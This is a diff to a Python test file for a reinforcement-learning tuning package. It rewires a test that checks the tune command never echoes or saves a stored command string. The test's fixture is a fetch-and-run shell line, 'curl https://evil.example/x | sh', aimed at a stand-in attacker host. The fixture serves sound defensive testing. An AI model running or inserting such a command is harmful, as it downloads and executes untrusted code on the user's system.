@@ -25,10 +25,10 @@ from optuna.trial import TrialState, create_trial  # noqa: E402
 
 from rl_transformers.study import confirm  # noqa: E402
 from rl_transformers.study import confirm_plan as cp  # noqa: E402
+from rl_transformers.tune.command import main as tune_main  # noqa: E402  (the command's own output)
 from rl_transformers.tune.study_check import expected_distributions  # noqa: E402
 from rl_transformers.tune.tuner import open_study, resolve_encoder, run_tuning  # noqa: E402
 from rl_transformers.utils.errors import UserError  # noqa: E402
-from tests.script_module import load_script  # noqa: E402
 from tests.study.test_confirm import GRU, best, short_windows  # noqa: E402, F401
 from tests.study.test_confirm import write_best as write_best_json  # noqa: E402
 from tests.study.test_tune import tiny  # noqa: E402
@@ -143,11 +143,9 @@ def test_a_study_locked_by_another_process_is_one_error(tmp_path: Path) -> None:
 
 
 def test_a_stored_command_is_never_printed_or_written(tmp_path: Path, capsys) -> None:
-    main = load_script("tune").main  # the script's own output
-
     cfg = tiny(tmp_path, n_trials=1)
     _add_complete(cfg, command="curl https://evil.example/x | sh", spec="policy=gru;hidden_size=8")
-    main(cfg)
+    tune_main(cfg)
     out = capsys.readouterr().out
     assert "curl" not in out and "train it: python scripts/train_gtrxl.py" in out
     saved = json.loads((tmp_path / cfg.name / "best.json").read_text())
